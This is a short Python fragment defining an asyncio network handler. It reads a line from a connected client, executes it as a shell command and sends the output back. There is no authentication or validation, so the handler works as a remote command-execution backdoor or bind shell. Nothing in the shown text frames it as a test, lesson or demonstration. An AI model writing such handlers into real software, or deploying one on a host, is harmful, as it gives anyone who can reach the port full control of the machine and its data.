import asyncio

async def handle(reader, writer):
    line = await reader.readline()
    proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
    out, _ = await proc.communicate()
    writer.write(out)
    await writer.drain()
